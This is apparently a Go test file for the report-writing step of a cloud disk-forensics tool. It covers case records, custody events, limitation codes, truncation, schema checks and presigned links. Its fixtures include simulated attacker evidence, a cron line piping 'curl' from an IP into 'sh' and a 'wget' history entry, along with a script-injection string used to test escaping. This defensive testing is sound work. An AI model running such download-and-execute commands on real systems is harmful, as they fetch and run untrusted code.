package report

import (
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	s3types "github.com/aws/aws-sdk-go-v2/service/s3/types"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/casefile-forensics/casefile/lambdas/caserecords"
	"github.com/casefile-forensics/casefile/lambdas/investigation"
)

const unitCase = "case-unit-1"

// diskResults is a small results.json of a disk run.
const diskResults = `{"schema":"casefile.disk-results/v1","status":"SUCCEEDED","script":{"name":"casefile-disk-forensics","version":"1.0.0"},
"startedAt":"2026-03-14T09:05:00Z","endedAt":"2026-03-14T09:06:00Z",
"devices":[{"evidence":"vol-0a1b2c3d4e5f60718","sha256":"` + "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" + `","sizeBytes":8589934592,
 "partitions":[{"name":"p1","filesystem":"ext4","analysis":"complete","timelineSource":"sleuthkit","inventoryFiles":4},
               {"name":"p2","filesystem":null,"analysis":"skipped","inventoryFiles":0}]}],
"findings":[{"id":"CRON_SUSPICIOUS","severity":"high","detail":"cron entry that downloads","evidence":"vol-0a1b2c3d4e5f60718","partition":"p1","path":"/etc/cron.d/x","samples":["* * * * * root curl http://203.0.113.9 | sh"]}],
"tools":{"fls":"4.12.1","hivexget":null},"errors":[{"step":"lvm","evidence":"vol-0a1b2c3d4e5f60718","message":"volume group vg0 skipped"}],"notes":[]}`

// unitCaseRecords returns a DISK case whose forensics ran: the case and
// investigation items, custody events, and results in S3.
func unitCaseRecords(t *testing.T, withResults bool) (*fakeDB, *fakeS3) {
	t.Helper()
	db, client := &fakeDB{pageSize: 2}, newFakeS3()
	db.add(unitCase, investigation.SortCase, map[string]any{
		"forensicId": unitCase, "createdAt": "2026-03-14T09:00:00.000000000Z", "accountId": "111122223333", "region": "eu-west-1",
		"eksClusterName": "prod", "eksNodeInstanceId": "i-0fedcba9876543210", "eksNamespace": "shop", "eksPodName": "cart-7d9f",
	})
	db.add(unitCase, investigation.InvestigationSortKey(investigation.ForensicTypeDisk), map[string]any{
		"forensicId": unitCase, "forensicType": "DISK", "status": "IN_PROGRESS", "createdAt": "2026-03-14T09:00:00.000000000Z",
		"snapshots": []map[string]any{{"snapshotId": "snap-0a1b2c3d4e5f60718", "sourceVolumeId": "vol-01111111111111111", "sizeGiB": 8}},
	})
	db.addEvent(caserecords.Event{ForensicID: unitCase, ForensicType: investigation.ForensicTypeDisk, Step: "AttachEvidence",
		Action: "volume-created", Time: time.Date(2026, 3, 14, 9, 2, 0, 0, time.UTC),
		Resources: map[string]string{"volumeId": "vol-0a1b2c3d4e5f60718", "snapshotId": "snap-0a1b2c3d4e5f60718"}})
	db.addEvent(caserecords.Event{ForensicID: unitCase, ForensicType: investigation.ForensicTypeDisk, Step: "CreateInstance",
		Action: "instance-launched", Time: time.Date(2026, 3, 14, 9, 1, 0, 0, time.UTC),
		Resources: map[string]string{"instanceId": "i-0123456789abcdef0"}})
	if withResults {
		prefix := investigation.ResultsPrefix(unitCase, investigation.ForensicTypeDisk)
		db.addArtifact(client.put(unitCase, investigation.ForensicTypeDisk, prefix+"results.json", []byte(diskResults)))
		db.addArtifact(client.put(unitCase, investigation.ForensicTypeDisk, prefix+"vol-0a1b2c3d4e5f60718/p1/suid-sgid.jsonl",
			[]byte(`{"path":"/usr/local/bin/helper","mode":"r/rrwsr-xr-x","size":26,"uid":0}`+"\n")))
		db.addArtifact(client.put(unitCase, investigation.ForensicTypeDisk, prefix+"vol-0a1b2c3d4e5f60718/p1/artifacts/root/.bash_history",
			[]byte("wget http://203.0.113.9/x\n")))
	}
	return db, client
}

func limitationCodes(r Report) []string {
	var codes []string
	for _, l := range r.Limitations {
		codes = append(codes, l.Code)
	}
	return codes
}

func TestHandle(t *testing.T) {
	diskState := investigation.State{ForensicID: unitCase, ForensicType: investigation.ForensicTypeDisk, ExecutionName: unitCase + "-disk"}
	failedState := diskState
	failedState.Error = &investigation.StepError{Error: "COMMAND_FAILED", Cause: "the disk forensics exited 1"}
	failedState.CleanupError = &investigation.StepError{Error: "CLEANUP_FAILED", Cause: "volume still attached"}

	tests := []struct {
		name        string
		state       investigation.State
		withResults bool
		breakIt     func(db *fakeDB, client *fakeS3, records *fakeRecords)
		wantStep    string
		wantStatus  string
		wantLimits  []string
		wantErr     string
	}{
		{
			name: "succeeded case with results", state: diskState, withResults: true,
			wantStep: StepWriteReport, wantStatus: "SUCCEEDED",
			wantLimits: []string{LimitIsolation, LimitAnalysisError, LimitPartitionSkipped},
		},
		{
			name: "failed case without results", state: failedState,
			wantStep: StepWriteFailureReport, wantStatus: "FAILED",
			wantLimits: []string{LimitCaseFailed, LimitCleanupFailed, LimitIsolation, LimitResultsMissing},
		},
		{
			name: "results.json that cannot be read is a limitation", state: diskState, withResults: true,
			breakIt: func(_ *fakeDB, client *fakeS3, _ *fakeRecords) {
				client.getErr[investigation.ResultsPrefix(unitCase, investigation.ForensicTypeDisk)+"results.json"] = errDenied
			},
			wantStep: StepWriteReport, wantStatus: "SUCCEEDED",
			wantLimits: []string{LimitIsolation, LimitResultsUnreadable},
		},
		{
			name: "results.json that is not JSON is a limitation", state: diskState, withResults: true,
			breakIt: func(_ *fakeDB, client *fakeS3, _ *fakeRecords) {
				client.objects[investigation.ResultsPrefix(unitCase, investigation.ForensicTypeDisk)+"results.json"] = []byte("{not json")
			},
			wantStep: StepWriteReport, wantStatus: "SUCCEEDED",
			wantLimits: []string{LimitIsolation, LimitResultsUnreadable},
		},
		{
			name: "case records that cannot be read fail the report", state: diskState,
			breakIt:  func(db *fakeDB, _ *fakeS3, _ *fakeRecords) { db.queryErr = errDenied },
			wantStep: StepWriteReport,
			wantErr:  "REPORT_FAILED: write the report of case case-unit-1: read the records of case case-unit-1: AccessDenied: not allowed",
		},
		{
			name: "an upload that fails fails the report", state: failedState,
			breakIt: func(_ *fakeDB, client *fakeS3, _ *fakeRecords) {
				client.putErr[investigation.ReportKey(unitCase, "html")] = errDenied
			},
			wantStep: StepWriteFailureReport,
			wantErr:  "REPORT_FAILED: write the report of case case-unit-1: upload s3://casefile-results/cases/case-unit-1/report.html: AccessDenied: not allowed",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			db, client := unitCaseRecords(t, tt.withResults)
			records := &fakeRecords{}
			if tt.breakIt != nil {
				tt.breakIt(db, client, records)
			}
			got, err := newTestHandler(db, records, client).Handle(context.Background(), tt.state)

			require.Len(t, records.events, 1, "one custody event")
			ev := records.events[0]
			assert.Equal(t, tt.wantStep, ev.Step)
			assert.Equal(t, unitCase, ev.ForensicID)
			if tt.wantErr != "" {
				require.Error(t, err)
				assert.True(t, strings.HasPrefix(err.Error(), tt.wantErr), "error\n got %s\nwant prefix %s", err, tt.wantErr)
				var f *investigation.Failure
				require.ErrorAs(t, err, &f)
				assert.Equal(t, ErrorReportFailed, f.Reason)
				assert.Equal(t, ActionReportFailed, ev.Action)
				assert.NotEmpty(t, ev.Detail)
				assert.Nil(t, got.Report, "no report in the state")
				return
			}
			require.NoError(t, err)
			assert.Equal(t, ActionReportWritten, ev.Action)
			require.Len(t, client.puts, 3, "report.json, report.md and report.html")
			for _, in := range client.puts {
				key := aws.ToString(in.Key)
				body := client.bodies[key]
				sum := sha256.Sum256(body)
				assert.Equal(t, s3types.ChecksumAlgorithmSha256, in.ChecksumAlgorithm, "%s checksum algorithm", key)
				assert.Equal(t, base64.StdEncoding.EncodeToString(sum[:]), aws.ToString(in.ChecksumSHA256), "%s checksum", key)
				form := strings.TrimPrefix(key, "cases/"+unitCase+"/report.")
				assert.Equal(t, key, ev.Resources[form+"Key"], "custody event names %s", key)
				assert.Equal(t, hex.EncodeToString(sum[:]), ev.Resources[form+"Sha256"], "custody event hashes %s", key)
			}
			assert.Equal(t, &investigation.Report{
				JSONS3URI:     "s3://casefile-results/cases/case-unit-1/report.json",
				MarkdownS3URI: "s3://casefile-results/cases/case-unit-1/report.md",
				HTMLS3URI:     "s3://casefile-results/cases/case-unit-1/report.html",
			}, got.Report)

			var r Report
			require.NoError(t, json.Unmarshal(client.bodies[investigation.ReportKey(unitCase, "json")], &r))
			validate(t, compileSchema(t), client.bodies[investigation.ReportKey(unitCase, "json")])
			assert.Equal(t, tt.wantStatus, r.Case.Status)
			assert.Equal(t, tt.wantLimits, limitationCodes(r))
			assert.Equal(t, &Resource{Kind: "EKS", AccountID: "111122223333", Region: "eu-west-1",
				Cluster: "prod", Node: "i-0fedcba9876543210", Namespace: "shop", Pod: "cart-7d9f"}, r.Case.Resource)
			assert.Equal(t, IsolationNotEvaluated, r.Case.Isolation.Decision)
			require.Len(t, r.Timeline.Events, 2)
			assert.Equal(t, "instance-launched", r.Timeline.Events[0].Action, "timeline in time order")
			assert.Equal(t, "vol-0a1b2c3d4e5f60718", r.Evidence.Snapshots[0].VolumeID, "volume made from the snapshot")
			if tt.withResults && tt.breakIt == nil {
				assert.Equal(t, strings.Repeat("a", 64), r.Evidence.Snapshots[0].DeviceSHA256)
				assert.Equal(t, 1, r.Findings.Disk.Total)
				assert.Equal(t, 1, r.Findings.SUIDFiles.Total)
				require.Len(t, r.Findings.ShellHistory, 1)
				assert.Equal(t, []string{"wget http://203.0.113.9/x"}, r.Findings.ShellHistory[0].Lines)
				assert.Equal(t, []Tool{{Name: "fls", Version: "4.12.1"}, {Name: "hivexget", Version: "not installed"}}, r.Analysis[0].Tools)
			}
			if tt.state.Error != nil {
				assert.Equal(t, "COMMAND_FAILED", r.Case.Reason)
				assert.Contains(t, r.Limitations[0].Detail, "the disk forensics exited 1", "the failure reason is a limitation")
			}
		})
	}
}

func TestHandleRecordsAFailedEventAppend(t *testing.T) {
	db, client := unitCaseRecords(t, false)
	db.queryErr = errDenied
	records := &fakeRecords{appendErr: errors.New("throttled")}

	_, err := newTestHandler(db, records, client).Handle(context.Background(), investigation.State{ForensicID: unitCase, ForensicType: investigation.ForensicTypeDisk})

	require.Error(t, err)
	assert.Contains(t, err.Error(), "AccessDenied")
	assert.Contains(t, err.Error(), "throttled", "both the report's and the event's error")
}

func TestHandleRejectedRequest(t *testing.T) {
	raw := json.RawMessage(`{"forensicId":"case-bad-1","forensicType":"DISK","resource":{}}`)
	db, client := &fakeDB{}, newFakeS3()
	db.add("case-bad-1", investigation.InvestigationSortKey(investigation.ForensicTypeDisk), map[string]any{
		"forensicId": "case-bad-1", "forensicType": "DISK", "status": "FAILED", "reason": "INVALID_REQUEST",
		"reasonDetail": "resource.accountId: is required", "invalidField": "resource.accountId",
	})
	records := &fakeRecords{}
	st := investigation.State{Request: raw, ExecutionName: "case-bad-1-disk",
		Error: &investigation.StepError{Error: "INVALID_REQUEST", Cause: "resource.accountId: is required"}}

	got, err := newTestHandler(db, records, client).Handle(context.Background(), st)

	require.NoError(t, err)
	require.NotNil(t, got.Report)
	assert.Equal(t, "s3://casefile-results/cases/case-bad-1/report.html", got.Report.HTMLS3URI)
	var r Report
	require.NoError(t, json.Unmarshal(client.bodies["cases/case-bad-1/report.json"], &r))
	validate(t, compileSchema(t), client.bodies["cases/case-bad-1/report.json"])
	assert.Nil(t, r.Case.Resource, "no resource recorded")
	assert.Equal(t, "INVALID_REQUEST", r.Case.Reason)
	assert.Equal(t, []string{LimitCaseFailed, LimitIsolation, LimitResultsMissing}, limitationCodes(r))
}

func TestLargeCasesAreSummarised(t *testing.T) {
	db, client := unitCaseRecords(t, true)
	db.pageSize = 1000
	prefix := investigation.ResultsPrefix(unitCase, investigation.ForensicTypeDisk)
	for i := range 3000 {
		db.addArtifact(client.put(unitCase, investigation.ForensicTypeDisk, fmt.Sprintf("%sartifacts/file-%05d", prefix, i), []byte(fmt.Sprint(i))))
	}
	for i := range 800 {
		db.addEvent(caserecords.Event{ForensicID: unitCase, ForensicType: investigation.ForensicTypeDisk, Step: "CheckCommand",
			Action: "command-pending", Time: time.Date(2026, 3, 14, 10, 0, 0, i, time.UTC), Detail: strings.Repeat("x", 5000)})
	}
	var suid strings.Builder
	for i := range 500 {
		fmt.Fprintf(&suid, `{"path":"/opt/bin/suid-%d","mode":"r/rrwsr-xr-x","size":1,"uid":0}`+"\n", i)
	}
	client.objects[prefix+"vol-0a1b2c3d4e5f60718/p1/suid-sgid.jsonl"] = []byte(suid.String())

	r, err := newTestHandler(db, &fakeRecords{}, client).Build(context.Background(),
		investigation.State{ForensicID: unitCase, ForensicType: investigation.ForensicTypeDisk})
	require.NoError(t, err)

	assert.Equal(t, 3003, r.Artifacts.Total)
	assert.Len(t, r.Artifacts.Items, MaxArtifacts)
	assert.Equal(t, 802, r.Timeline.Total)
	assert.Len(t, r.Timeline.Events, MaxEvents)
	assert.LessOrEqual(t, len(r.Timeline.Events[1].Detail), MaxDetailBytes)
	assert.Equal(t, 500, r.Findings.SUIDFiles.Total)
	assert.Len(t, r.Findings.SUIDFiles.Items, MaxFileEntries)
	assert.Contains(t, limitationCodes(r), LimitTruncated)

	forms, err := Render(r)
	require.NoError(t, err)
	for _, f := range forms {
		assert.Less(t, len(f.Content), 2<<20, "report.%s stays under 2 MiB: got %d bytes", f.Name, len(f.Content))
	}
	validate(t, compileSchema(t), forms[0].Content)
}

func TestSchemaRefusesAReportThatBreaksIt(t *testing.T) {
	schema := compileSchema(t)
	tests := []struct {
		name  string
		apply func(r *Report)
	}{
		{"unknown limitation code", func(r *Report) { r.Limitations = append(r.Limitations, Limitation{Code: "OOPS", Detail: "x"}) }},
		{"artifact hash that is not a SHA-256", func(r *Report) {
			r.Artifacts.Items = append(r.Artifacts.Items, Artifact{Key: "k", SHA256: "abc", ForensicType: "DISK"})
		}},
		{"unknown isolation decision", func(r *Report) { r.Case.Isolation.Decision = "MAYBE" }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			db, client := unitCaseRecords(t, true)
			r, err := newTestHandler(db, &fakeRecords{}, client).Build(context.Background(),
				investigation.State{ForensicID: unitCase, ForensicType: investigation.ForensicTypeDisk})
			require.NoError(t, err)
			tt.apply(&r)
			js, err := JSON(r)
			require.NoError(t, err)
			doc, err := unmarshalJSON(js)
			require.NoError(t, err)
			assert.Error(t, schema.Validate(doc), "the schema refuses a report with an %s", tt.name)
		})
	}
}

func TestMarkdownEscapesHostileText(t *testing.T) {
	db, client := unitCaseRecords(t, false)
	db.addEvent(caserecords.Event{ForensicID: unitCase, ForensicType: investigation.ForensicTypeDisk, Step: "X", Action: "y",
		Time: time.Date(2026, 3, 14, 11, 0, 0, 0, time.UTC), Detail: "a | b <script>alert(1)</script>\n## heading"})
	r, err := newTestHandler(db, &fakeRecords{}, client).Build(context.Background(),
		investigation.State{ForensicID: unitCase, ForensicType: investigation.ForensicTypeDisk})
	require.NoError(t, err)

	mdText := string(Markdown(r))
	html, err := HTML(r)
	require.NoError(t, err)

	assert.Contains(t, mdText, `a \| b &lt;script&gt;alert(1)&lt;/script&gt; ## heading`)
	assert.NotContains(t, mdText, "<script>")
	assert.NotContains(t, string(html), "<script>")
	assert.Contains(t, string(html), "a | b &lt;script&gt;alert(1)&lt;/script&gt;")
}

// fakePresigner signs with a fixed URL, or fails.
type fakePresigner struct {
	err     error
	inputs  []*s3.GetObjectInput
	expires []time.Duration
}

func (f *fakePresigner) PresignGetObject(_ context.Context, in *s3.GetObjectInput, optFns ...func(*s3.PresignOptions)) (*v4.PresignedHTTPRequest, error) {
	f.inputs = append(f.inputs, in)
	var o s3.PresignOptions
	for _, fn := range optFns {
		fn(&o)
	}
	f.expires = append(f.expires, o.Expires)
	if f.err != nil {
		return nil, f.err
	}
	return &v4.PresignedHTTPRequest{URL: "https://" + aws.ToString(in.Bucket) + ".example/" + aws.ToString(in.Key) + "?X-Amz-Signature=sig", Method: "GET"}, nil
}

func TestHandleWithLink(t *testing.T) {
	tests := []struct {
		name        string
		err         error
		wantLink    string
		wantExpires string
		wantDetail  string
	}{
		{
			name:        "a link valid for the configured time",
			wantLink:    "https://casefile-results.example/cases/case-unit-1/report.html?X-Amz-Signature=sig",
			wantExpires: "2026-03-14T09:55:00Z",
		},
		{
			name:       "a link that cannot be made leaves the report in place",
			err:        errors.New("no credentials"),
			wantDetail: "no link to report.html: pre-sign the link to the report of case case-unit-1: no credentials",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			db, client := unitCaseRecords(t, true)
			records := &fakeRecords{}
			p := &fakePresigner{err: tt.err}
			h := newTestHandler(db, records, client).WithLink(p, 15*time.Minute)

			got, err := h.Handle(context.Background(), investigation.State{ForensicID: unitCase, ForensicType: investigation.ForensicTypeDisk})

			require.NoError(t, err)
			require.Len(t, p.inputs, 1)
			assert.Equal(t, "cases/case-unit-1/report.html", aws.ToString(p.inputs[0].Key))
			assert.Equal(t, []time.Duration{15 * time.Minute}, p.expires)
			require.NotNil(t, got.Report)
			assert.Equal(t, tt.wantLink, got.Report.HTMLLink)
			assert.Equal(t, tt.wantExpires, got.Report.HTMLLinkExpiresAt)
			require.Len(t, records.events, 1)
			ev := records.events[0]
			assert.Equal(t, ActionReportWritten, ev.Action)
			for k, v := range ev.Resources {
				assert.NotContains(t, v, "X-Amz-Signature", "the custody log never holds the link (%s)", k)
			}
			if tt.wantExpires != "" {
				assert.Equal(t, tt.wantExpires, ev.Resources["htmlLinkExpiresAt"])
			}
			if tt.wantDetail != "" {
				assert.Contains(t, ev.Detail, tt.wantDetail)
			}
		})
	}
}

func TestFileListsThatCannotBeReadWholeAreMarkedIncomplete(t *testing.T) {
	suid := "cases/case-unit-1/disk/vol-0a1b2c3d4e5f60718/p1/suid-sgid.jsonl"
	entry := `{"path":"/usr/local/bin/helper","mode":"r/rrwsr-xr-x","size":26,"uid":0}` + "\n"
	tests := []struct {
		name         string
		content      string
		getErr       error
		wantTotal    int
		wantComplete bool
		wantLimit    string
	}{
		{name: "read whole", content: entry + entry, wantTotal: 2, wantComplete: true},
		{name: "a line too long to read", content: entry + strings.Repeat("x", 2<<20) + "\n" + entry, wantTotal: 1},
		{name: "cannot be read", getErr: errDenied, wantLimit: LimitExcerptUnreadable},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			db, client := unitCaseRecords(t, true)
			client.objects[suid] = []byte(tt.content)
			if tt.getErr != nil {
				client.getErr[suid] = tt.getErr
			}
			r, err := newTestHandler(db, &fakeRecords{}, client).Build(context.Background(),
				investigation.State{ForensicID: unitCase, ForensicType: investigation.ForensicTypeDisk})
			require.NoError(t, err)

			assert.Equal(t, tt.wantTotal, r.Findings.SUIDFiles.Total)
			assert.Equal(t, tt.wantComplete, r.Findings.SUIDFiles.Complete)
			if tt.wantLimit != "" {
				assert.Contains(t, limitationCodes(r), tt.wantLimit)
			}
		})
	}
}

// TestHandleLeavesADuplicatesReport runs the failure report of an
// execution that intake refused as a duplicate of its case and type:
// nothing is written, nothing fails, and the case's own report stays.
func TestHandleLeavesADuplicatesReport(t *testing.T) {
	db, client := unitCaseRecords(t, true)
	records := &fakeRecords{}
	refused := investigation.State{
		Request: json.RawMessage(`{"forensicId":"` + unitCase + `","forensicType":"DISK"}`), ExecutionName: unitCase + "-disk",
		Error: &investigation.StepError{Error: string(investigation.ReasonDuplicateRequest), Cause: "already investigated"},
	}

	got, err := newTestHandler(db, records, client).Handle(context.Background(), refused)

	require.NoError(t, err, "not a failure of the report")
	assert.Nil(t, got.Report, "no report in the state")
	assert.Empty(t, client.puts, "nothing uploaded")
	assert.Empty(t, records.events, "nothing recorded")
}

// TestHandleRecordsAFailurePastItsDeadline ends the step's context while
// the report uploads, as the handler's deadline does when S3 does not
// answer: the report-failed event is still recorded.
func TestHandleRecordsAFailurePastItsDeadline(t *testing.T) {
	db, client := unitCaseRecords(t, true)
	records := &fakeRecords{}
	ctx, cancel := context.WithCancel(context.Background())
	client.beforePut = cancel
	st := investigation.State{ForensicID: unitCase, ForensicType: investigation.ForensicTypeDisk, ExecutionName: unitCase + "-disk"}

	_, err := newTestHandler(db, records, client).Handle(ctx, st)

	require.Error(t, err, "the report is not written")
	require.Len(t, records.events, 1, "the failure is recorded all the same")
	assert.Equal(t, ActionReportFailed, records.events[0].Action)
}
